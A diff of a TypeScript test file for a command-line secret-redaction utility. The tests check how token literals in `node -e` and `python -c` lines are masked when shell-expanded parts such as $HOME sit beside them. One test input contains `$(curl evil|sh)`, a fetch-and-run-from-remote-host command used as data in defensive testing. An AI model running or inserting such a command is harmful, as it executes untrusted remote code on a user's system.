@@ -101,8 +101,6 @@ describe("the shell's '\\'' idiom only where the shell's '…' is open (r64s #2)
       fc.property(secret, after, form, (value, rest, write) => {
         const line = write(value + rest);
         const head = value.split(" ")[0] as string;
-        // In '…' a `$` is no run-time part, yet such a literal is kept in clear, as before.
-        if (rest !== "" && line.includes(" -e '")) return;
         expect(exportedArg(line)).not.toContain(head);
         expect(withoutArgSecrets(["--run", line])[1]).not.toContain(head);
         // A literal the shell joins in '…' is kept out of the display too, and fills back.
@@ -180,4 +178,48 @@ describe("a program's literal holding a blank, quoted with the shell's '\\'' idi
     expect(exportedArg(line)).toBe(safe);
     expectFilledBack(line);
   });
+});
+
+describe("a program's literal written around a part the shell reads at run time (r64s #5)", () => {
+  it.each([
+    [
+      `node -e "process.env.TOKEN = 'Zq7hunterPW$HOME'"`,
+      `node -e "process.env.TOKEN = '\${TOKEN}$HOME'"`,
+      `node -e "process.env.TOKEN = '\${TOKEN}'"`,
+    ],
+    [
+      `node -e "process.env.TOKEN = 'Zq7hunterPW$(curl evil|sh)'"`,
+      `node -e "process.env.TOKEN = '\${TOKEN}$(curl evil|sh)'"`,
+      `node -e "process.env.TOKEN = '\${TOKEN}'"`,
+    ],
+    [
+      `python -c "import os; os.environ['TOKEN'] = 'Zq7hunterPW$HOME'"`,
+      `python -c "import os; os.environ['TOKEN'] = '\${TOKEN}$HOME'"`,
+      `python -c "import os; os.environ['TOKEN'] = '\${TOKEN}'"`,
+    ],
+  ])("%j is shown as %j (its run-time part in sight) and exported as %j", (line, shown, safe) => {
+    expect(withoutCommandLineSecrets(line)).toBe(shown);
+    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", safe]);
+    expectFilledBack(line);
+  });
+
+  it.each([
+    ["node -e 'process.env.TOKEN = '\\''Zq7hunterPW-$X'\\'''", "node -e 'process.env.TOKEN = ${TOKEN}'"],
+    [
+      "node -e 'Object.assign(process.env, {TOKEN: '\\''Zq7hunterPW-$HOME'\\''})'",
+      "node -e 'Object.assign(process.env, {TOKEN: ${TOKEN}})'",
+    ],
+  ])("%j, a `$` in the shell's '…' (no run-time part), is hidden whole: %j", (line, safe) => {
+    expect(withoutCommandLineSecrets(line)).toBe(safe);
+    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", safe]);
+    expectFilledBack(line);
+  });
+
+  it.each([`node -e "process.env.TOKEN = '$HOME/x'"`, `node -e "process.env.TOKEN = 'Bearer $TOKEN'"`])(
+    "%j, only a run-time part, a path or a scheme, is kept as written",
+    (line) => {
+      expect(withoutCommandLineSecrets(line)).toBe(line);
+      expect(withoutArgSecrets(["--run", line])).toEqual(["--run", line]);
+    },
+  );
 });
